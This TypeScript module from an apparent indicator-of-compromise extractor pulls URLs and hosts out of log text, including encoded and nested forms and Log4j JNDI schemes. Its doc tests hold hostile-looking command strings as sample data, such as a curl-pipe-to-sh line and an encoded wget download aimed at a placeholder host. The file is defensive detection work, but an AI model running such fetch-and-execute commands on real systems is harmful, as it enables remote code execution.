/**
 * URLs in texts, and the hosts of URLs.
 *
 * @module
 */
import type { Candidate } from "../ioc.ts";

/**
 * A URL and its host, as candidates.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * assertEquals(urlAndHost("http://a.example/x", "f"), [
 *   { kind: "url", text: "http://a.example/x", field: "f" },
 *   { kind: "host", text: "a.example", field: "f" },
 * ]);
 * ```
 */
export function urlAndHost(text: string, field: string): Candidate[] {
  const host = URL.parse(text)?.hostname ?? "";
  return [
    { kind: "url", text, field },
    ...(host === "" ? [] : [{ kind: "host", text: host, field } as const]),
  ];
}

/** A longer text is no URL that is asked for; it must not cost time. */
const MAX_URL_LENGTH = 5000;

/** A URL in a text. */
export interface FoundUrl {
  readonly url: string;
  /** What stands before it. */
  readonly before: string;
}

/**
 * The URLs in a text, wherever they stand, one inside another and encoded too.
 * Where a mark may end a shell's word or belong to the URL, both readings are
 * given. They come one by one: who takes a few has no work with the rest.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * const urlsIn = (text: string) =>
 *   eachUrlIn(text).map(({ url }) => url).toArray();
 * assertEquals(urlsIn("--url=http://a.example/x"), ["http://a.example/x"]);
 * assertEquals(urlsIn("curl 'http://a.example/x' | sh"), [
 *   "http://a.example/x",
 * ]);
 * assertEquals(urlsIn("http://a.example/x;sh"), [
 *   "http://a.example/x;sh",
 *   "http://a.example/x",
 * ]);
 * assertEquals(urlsIn("?c=wget%20http://a.example/x%20-O%20t"), [
 *   "http://a.example/x%20-O%20t",
 *   "http://a.example/x",
 * ]);
 * ```
 */
export function* eachUrlIn(text: string): Generator<FoundUrl> {
  if (!/:(?:\/|\\\/|%2f)|%3a(?:\/|%2f)|%253a/i.test(text)) return;
  // JSON in a text writes http:\/\/, and CEF and LEEF \=
  const plain = text.includes("\\") ? text.replace(/\\([/=])/g, "$1") : text;
  // An attacker may repeat a word as often as there is room.
  const words = new Set<string>();
  for (const { 0: word, index } of plain.matchAll(WORD)) {
    // Most words are none: this is quick to see.
    if (!word.includes("://") && !word.includes("%")) continue;
    for (const reading of readingsOfWord(word)) {
      if (words.has(reading)) continue;
      words.add(reading);
      const where = { text: plain, index };
      for (
        const { index: at } of reading.matchAll(URL_START).take(MAX_NESTED + 1)
      ) {
        const url = reading.slice(at, at + MAX_URL_LENGTH);
        const before = plain.slice(Math.max(index - CONTEXT, 0), index) +
          reading.slice(Math.max(at - CONTEXT, 0), at);
        const quoted = reading === word ? quotedAt(where, { at, url }) : [];
        for (const one of new Set([...quoted, ...readingsOf(url)])) {
          yield { url: one, before };
        }
      }
    }
  }
}

/** So much of what stands before a URL may be looked at. */
const CONTEXT = 40;

/**
 * A URL in quotes that has the other quote in it: `"http://a.example/it's"`. It
 * ends at the quote that it begins with.
 */
function quotedAt(
  { text, index }: { readonly text: string; readonly index: number },
  { at, url }: { readonly at: number; readonly url: string },
): readonly string[] {
  const start = index + at;
  const quote = text.charAt(start - 1);
  const after = text.charAt(start + url.length);
  if (!/["']/.test(quote) || after === quote || !/["']/.test(after)) return [];
  const end = text.slice(start, start + MAX_URL_LENGTH).indexOf(quote);
  const whole = text.slice(start, start + end);
  return end === -1 || /[\s<>]/.test(whole) ? [] : [whole];
}

/** A word, and the parameters in it that are an encoded URL. */
function readingsOfWord(word: string): readonly string[] {
  if (!word.includes("%")) return [word];
  const encoded = word.split(/[&?]/).filter((part) => ENCODED.test(part));
  return [
    word,
    ...encoded.flatMap((part) =>
      percentDecoded(percentDecoded(part)).match(WORD) ?? []
    ),
  ];
}

/** The start of a URL, encoded once or twice, in whole or in part. */
const ENCODED = /(?!:\/\/)(?:%(?:25)?3a|:)(?:%(?:25)?2f|\/){2}/i;

/**
 * A text without its percent encoding, as it is if that is broken.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * assertEquals(percentDecoded("a%2Fb"), "a/b");
 * assertEquals(percentDecoded("%zz"), "%zz");
 * ```
 */
export function percentDecoded(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

// deno-lint-ignore no-control-regex
const WORD = /[^\s"'`<>|\\^{}\u{1b}“”„«»‹›「」]+/gu;
/** LDAP and RMI are how Log4j is made to load code: their host is asked for. */
const URL_START =
  /(?:https?|(?<![st])ftp|ldaps?|rmi|(?<=jndi:)(?:dns|iiop|corba|nds|nis)):\/\//gi;

/** How many URLs one may hold; what is in them beyond that counts as one. */
const MAX_NESTED = 10;

/**
 * What ends a command's word where a request carries the command: blanks, quotes
 * and marks of the shell, encoded, and what stands for a blank (`+`, `$IFS`).
 */
const COMMAND_END =
  /%(?:25)?(?:20|09|0a|0d|00|22|27|60|3b|3c|3e|7c|5c|7b|7d|26%(?:25)?26)|\+|\$/i;

/** What a word may mean as a URL. */
function readingsOf(word: string): string[] {
  const [beforeAnd = word] = word.split("&&", 1);
  const readings = [
    beforeAnd,
    // urldefense.com's ends with __;
    ...["__;", ";", ",", "&"].flatMap((mark) => {
      const end = beforeAnd.indexOf(mark);
      // After a "?", a "&" comes between parameters.
      const isParameter = mark === "&" &&
        beforeAnd.slice(0, end).includes("?");
      return end === -1 || isParameter ? [] : [beforeAnd.slice(0, end)];
    }),
    ...(COMMAND_END.test(beforeAnd) ? beforeAnd.split(COMMAND_END, 1) : []),
  ];
  return [...new Set(readings.map(withoutEnd))];
}

/** Takes off what ends a sentence or a command, and is no part of the URL. */
function withoutEnd(url: string): string {
  const marks = `.,;:!&$*…。、，；！${url.includes("(") ? "" : ")"}${
    url.includes("[") ? "" : "]"
  }`;
  let end = url.length;
  while (end > 0 && marks.includes(url.charAt(end - 1))) end--;
  return url.slice(0, end);
}
